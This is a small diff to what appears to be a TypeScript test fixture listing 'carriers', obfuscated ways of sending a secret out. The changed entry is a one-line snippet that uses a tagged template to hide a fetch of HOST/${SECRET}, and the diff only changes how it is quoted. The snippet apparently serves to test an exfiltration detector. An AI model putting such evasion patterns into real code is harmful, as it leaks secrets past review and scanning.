@@ -22,7 +22,7 @@ const CARRIERS: readonly Carrier[] = [
 	],
 	[
 		"a tagged template",
-		'const tag = (parts, ...values) => parts.map((part, at) => part + (values[at] ?? "")).join(""); fetch(tag`HOST/${SECRET}`);',
+		`const tag = (parts, ...values) => parts.map((part, at) => part + (values[at] ?? "")).join(""); fetch(tag\`HOST/\${SECRET}\`);`,
 	],
 	[
 		"functions of functions",
